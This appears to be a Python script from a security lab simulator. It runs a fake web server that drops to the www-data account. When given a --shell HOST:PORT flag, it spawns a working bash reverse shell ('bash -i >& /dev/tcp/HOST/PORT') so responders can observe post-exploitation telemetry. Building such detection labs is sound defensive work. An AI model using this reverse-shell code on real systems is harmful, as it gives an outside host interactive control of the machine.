"""A web server that binds its port as root and serves as www-data (nginx, apache2).

Benign as nginx: other lab hosts fetch from it. Malicious with ``--shell HOST:PORT`` (apache2 with a vulnerable CGI,
T1059 / T1505.003): a few seconds in, the service account runs ``bash -c 'bash -i >& /dev/tcp/HOST/PORT 0>&1'``,
the shell a command injection leaves behind, talking out on 443 where only its stdio gives it away. The lab does
not play the exploit request itself; the shell is what the responder's collector can see.
"""

from __future__ import annotations

import random
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _common import drop_privileges, parser, setup, sleep_until, ticks  # noqa: E402


def serve_client(conn: socket.socket) -> None:
    with conn:
        conn.settimeout(15)
        for _ in range(1000):
            try:
                if not conn.recv(65536):
                    return
                body = b"<html>" + b"x" * random.randint(200, 3000) + b"</html>"
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: "
                             + str(len(body)).encode() + b"\r\n\r\n" + body)
            except OSError:
                return


def main() -> None:
    p = parser("web server")
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--user", default="www-data")
    p.add_argument("--shell", help="HOST:PORT: spawn a reverse shell as the service user (the exploited case)")
    args = p.parse_args()
    deadline = setup(args)
    server = socket.create_server(("0.0.0.0", args.port), reuse_port=False, backlog=64)
    drop_privileges(args.user)
    server.settimeout(1.0)
    shell: subprocess.Popen[bytes] | None = None
    started = time.monotonic()
    try:
        for _ in ticks(deadline):
            if args.shell and shell is None and time.monotonic() - started > 5:
                host, port = args.shell.rsplit(":", 1)
                shell = subprocess.Popen(["/bin/bash", "-c", f"bash -i >& /dev/tcp/{host}/{port} 0>&1"],
                                         stdin=subprocess.DEVNULL, cwd="/tmp")
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                sleep_until(deadline, 0.5)
                continue
            threading.Thread(target=serve_client, args=(conn,), daemon=True).start()
    finally:
        if shell is not None and shell.poll() is None:
            shell.kill()


if __name__ == "__main__":
    main()
